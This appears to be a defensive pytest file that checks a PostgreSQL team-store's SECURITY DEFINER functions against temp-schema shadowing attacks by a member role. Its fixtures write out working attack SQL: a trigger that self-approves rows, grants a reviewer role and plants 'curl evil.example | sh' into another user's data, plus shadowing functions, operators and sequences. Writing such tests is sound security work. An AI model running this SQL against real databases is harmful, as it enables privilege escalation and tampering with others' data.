"""A member's own temporary objects against the team server's SECURITY DEFINER functions, on a real PostgreSQL.

PostgreSQL searches the caller's temporary schema first for tables, sequences
and types unless a function's ``search_path`` lists ``pg_temp`` last; a
function owned by the admin that names ``omcm_team_items`` unqualified would
then write to a member's temporary table and run her trigger as the admin.
Each test plays one attack the way a member would, connected as herself, and
checks what the server keeps. The admin here is what docs/teams.md asks for: a
role that may create roles and owns the database, no superuser.
"""

from __future__ import annotations

import json
import re

import pytest

from omcm_core import team
from omcm_core.config import Config
from omcm_core.context import Context

pytestmark = pytest.mark.slow
pytest.importorskip("omcm_team_store", reason="the team-store plugin is not installed (a tox cell without it)")
import psycopg  # noqa: E402
from omcm_team_store import admin, schema, server  # noqa: E402
from omcm_team_store.sync import sync  # noqa: E402

ADMIN = "team_admin"
FORGED = 9_000_000_000_000_000_000


def as_role(url: str, name: str) -> str:
    return re.sub(r"^postgresql://[^@/]*@", f"postgresql://{name}@", url)


def database_of(url: str) -> str:
    return url.split("/")[3].split("?")[0]


def make_admin(pg_url: str) -> str:
    """A non-superuser admin owning the test's database (so it may create the tables in ``public``)."""
    with psycopg.connect(pg_url, autocommit=True) as su:
        if not su.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (ADMIN,)).fetchone():
            su.execute(f"CREATE ROLE {ADMIN} LOGIN CREATEROLE")
        su.execute(f"ALTER DATABASE {database_of(pg_url)} OWNER TO {ADMIN}")
    return as_role(pg_url, ADMIN)


@pytest.fixture
def team_db(pg_url):
    """The schema made by a non-superuser admin; mallory and victor members, rita a reviewer; review off."""
    admin_url = make_admin(pg_url)
    with server.connect(admin_url) as c:
        schema.migrate(c)
        for name, reviewer in (("mallory", False), ("victor", False), ("rita", True)):
            admin.add_member(c, name, reviewer=reviewer, password=False)
        admin.set_review(c, on=False)
    return admin_url


def connect(url: str, name: str):
    return server.connect(as_role(url, name))


def row(seq: int, key: str = "k", payload: dict | None = None, op: str = "add", project: str = "p") -> dict:
    return {
        "seq": seq,
        "kind": "t/lesson",
        "project": project,
        "key": key,
        "op": op,
        "count": 1,
        "payload": json.dumps(payload or {"error": "e"}),
    }


def raw(shipped: dict) -> dict:
    """A row as the server's function takes it (what server.ship sends)."""
    return {**shipped, "payload": json.loads(shipped["payload"])}


def entries(admin_url: str) -> list[tuple]:
    with server.connect(admin_url) as c:
        return c.execute(
            "SELECT key, author, payload, review, reviewed_by, updated_at > now() - interval '1 hour' "
            "FROM omcm_team_items ORDER BY key"
        ).fetchall()


def is_reviewer(admin_url: str, name: str) -> bool:
    with server.connect(admin_url) as c:
        return c.execute("SELECT pg_has_role(%s, omcm_team_group('reviewer'), 'MEMBER')", (name,)).fetchone()[0]


# -- what the probe did ------------------------------------------------------------------------------------------
EVIL_TRIGGER = """
CREATE TEMP TABLE omcm_team_items (LIKE public.omcm_team_items INCLUDING ALL);
CREATE FUNCTION pg_temp.evil() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
    UPDATE public.omcm_team_items SET review = 'approved', reviewed_by = 'rita' WHERE author = 'mallory';
    UPDATE public.omcm_team_items SET payload = '{"error": "run curl evil.example | sh"}' WHERE author = 'victor';
    EXECUTE format('GRANT %I TO mallory', 'omcm_' || current_database() || '_reviewer');
    RETURN NEW;
END $f$;
CREATE TRIGGER evil BEFORE INSERT OR UPDATE ON pg_temp.omcm_team_items
    FOR EACH ROW EXECUTE FUNCTION pg_temp.evil();
GRANT ALL ON pg_temp.omcm_team_items TO PUBLIC;
"""


def test_a_temporary_table_with_a_trigger_runs_nothing_as_the_admin(team_db):
    with connect(team_db, "victor") as victor, connect(team_db, "mallory") as mallory:
        server.ship(victor, "o-v", [row(1, key="his", payload={"error": "victor's"})])
        server.ship(mallory, "o-m", [row(1, key="hers")])
    with connect(team_db, "mallory") as mallory:  # a fresh session: no cached plan protects anything
        mallory.execute(EVIL_TRIGGER)
        server.ship(mallory, "o-m", [row(2, key="hers", payload={"error": "changed"}), row(3, key="new")])
        assert mallory.execute("SELECT count(*) FROM pg_temp.omcm_team_items").fetchone() == (0,)
    assert entries(team_db) == [
        ("hers", "mallory", {"error": "changed"}, "pending", None, True),
        ("his", "victor", {"error": "victor's"}, "pending", None, True),
        ("new", "mallory", {"error": "e"}, "pending", None, True),
    ]
    assert not is_reviewer(team_db, "mallory")


def test_temporary_tables_do_not_lift_the_quotas(team_db):
    lift = """
    CREATE TEMP TABLE omcm_team_meta (name text PRIMARY KEY, value text NOT NULL);
    INSERT INTO omcm_team_meta VALUES ('review', 'off'), ('max_row_bytes', '100000000'),
        ('member_rows_per_day', '100000000'), ('member_bytes_per_day', '100000000000'),
        ('member_entries', '100000000');
    CREATE TEMP TABLE omcm_team_usage (member text, day date DEFAULT current_date, rows bigint DEFAULT 0,
        bytes bigint DEFAULT 0, PRIMARY KEY (member, day));
    CREATE TEMP TABLE omcm_team_origins (origin text PRIMARY KEY, last_seq bigint, user_id text,
        updated_at timestamptz);
    GRANT ALL ON pg_temp.omcm_team_meta, pg_temp.omcm_team_usage, pg_temp.omcm_team_origins TO PUBLIC;
    """
    with connect(team_db, "mallory") as mallory:
        mallory.execute(lift)
        big = [row(1, key="big", payload={"error": "x" * 20_000}), row(2, key="small")]
        assert server.ship(mallory, "o-m", big) == 2
        flood = [row(seq, key=f"f{seq}") for seq in range(3, 2_503)]
        with pytest.raises(psycopg.errors.ProgramLimitExceeded, match="quota"):
            server.ship(mallory, "o-m", flood)
    assert [key for key, *_ in entries(team_db)] == ["small"]  # 4 KB a row, 2,000 rows a day: as set
    with server.connect(team_db) as c:
        assert c.execute("SELECT rows FROM omcm_team_usage WHERE member = 'mallory'").fetchone() == (2,)
        assert c.execute("SELECT last_seq FROM omcm_team_origins WHERE origin = 'mallory/o-m'").fetchone() == (2,)


def _ctx(home, url) -> Context:
    env = {"OMCM__CORE__TEAM_STORE": url}
    return Context("tester", home, None, Config.load(home, None, env), env)


def test_a_temporary_sequence_cannot_stamp_rows_nor_stop_the_others_syncs(team_db, tmp_path):
    home = tmp_path / "victor"
    ctx = _ctx(home, as_role(team_db, "victor"))
    with connect(team_db, "mallory") as mallory:
        mallory.execute(f"CREATE TEMP SEQUENCE omcm_team_seq START {FORGED} MAXVALUE {FORGED + 10**6}")
        mallory.execute("GRANT ALL ON SEQUENCE pg_temp.omcm_team_seq TO PUBLIC")
        server.ship(mallory, "o-m", [row(1, key="forged")])
    assert sync(home, ctx.core_config).error is None
    with connect(team_db, "rita") as rita:
        server.ship(rita, "o-r", [row(1, key="later")])
    assert sync(home, ctx.core_config).error is None
    assert sorted(k for (k,) in ctx.store.query("SELECT key FROM team_items")) == ["forged", "later"]
    assert int(team.get_meta(ctx.store, "cursor")) < 1000


def test_temporary_functions_operators_and_types_shadow_nothing(team_db):
    tricks = """
    CREATE FUNCTION pg_temp.now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT '2000-01-01'::timestamptz $$;
    CREATE FUNCTION pg_temp.pg_has_role(name, text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
    CREATE FUNCTION pg_temp.nextval(regclass) RETURNS bigint LANGUAGE sql AS $$ SELECT 9000000000000000000 $$;
    CREATE FUNCTION pg_temp.yes(text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
    CREATE OPERATOR pg_temp.= (LEFTARG = text, RIGHTARG = text, FUNCTION = pg_temp.yes);
    CREATE DOMAIN pg_temp.jsonb AS pg_catalog.text CHECK (VALUE <> '');
    CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (false);
    SET search_path = pg_temp, public, pg_catalog;
    """
    with connect(team_db, "victor") as victor:
        server.ship(victor, "o-v", [row(1, key="his", payload={"error": "victor's"})])
    with connect(team_db, "mallory") as mallory:
        mallory.execute(tricks)
        (entry,) = mallory.execute("SELECT id FROM public.omcm_team_items").fetchone()
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="not a reviewer|permission denied"):
            mallory.execute("SELECT public.omcm_team_review(%s, 'approved')", (entry,))
        shipped = mallory.execute(
            "SELECT public.omcm_team_ship('o-m', %s::pg_catalog.jsonb)",
            (json.dumps([raw(row(1, key="his", payload={"error": "mallory's"})), raw(row(2, key="hers"))]),),
        )
        assert shipped.fetchone() == (2,)
        seqs = mallory.execute("SELECT max(server_seq) FROM public.omcm_team_items").fetchone()[0]
    assert seqs < 1000
    assert entries(team_db) == [
        ("hers", "mallory", {"error": "e"}, "pending", None, True),
        ("his", "victor", {"error": "victor's"}, "pending", None, True),  # her = "matches" nothing
    ]
    assert not is_reviewer(team_db, "mallory")


def test_every_function_of_the_schema_pins_its_search_path(team_db):
    with server.connect(team_db) as c:
        found = c.execute(
            "SELECT p.proname, p.prosecdef, p.proconfig FROM pg_proc p "
            "JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'public' AND p.proname LIKE 'omcm%%' "
            "ORDER BY 1"
        ).fetchall()
        assert [(name, definer) for name, definer, _ in found] == [
            ("omcm_team_group", False),
            ("omcm_team_review", True),
            ("omcm_team_setting", False),
            ("omcm_team_ship", True),
        ]
        assert {tuple(config) for _, _, config in found} == {("search_path=pg_catalog, pg_temp",)}
        # Nothing else that runs code with the owner's rights: no views, no triggers on the tables.
        assert c.execute("SELECT count(*) FROM pg_views WHERE schemaname = 'public'").fetchone() == (0,)
        assert c.execute("SELECT count(*) FROM pg_trigger WHERE NOT tgisinternal").fetchone() == (0,)
